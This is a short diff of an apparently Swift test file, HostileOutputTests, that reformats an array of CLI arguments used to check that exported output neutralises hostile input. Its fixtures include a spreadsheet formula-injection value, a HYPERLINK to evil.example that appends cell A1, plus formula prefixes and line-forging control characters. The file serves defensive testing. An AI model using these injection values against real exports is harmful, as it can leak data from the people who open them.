@@ -38,7 +38,10 @@ struct HostileOutputTests {
         ])
         #expect(enrolled.status == 0, "\(enrolled.stderr)")
         let families: [[String]] = [
-            ["--reference=TUN-1", "--head==HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "--phone=+216 98 123 456"],
+            [
+                "--reference=TUN-1", "--head==HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "--phone=+216 98 123 456",
+            ],
             ["--reference=TUN-2", "--head=@SUM(1+1)", "--phone=-2+3", "--notes=\tcmd", "--address=\rcmd", "--size=4"],
             ["--reference=TUN-3", "--head=" + escapes, "--phone=71 000 000", "--address=x\nforged line"],
             ["--reference=TUN-4", "--head=" + arabic, "--phone=71 111 111"],
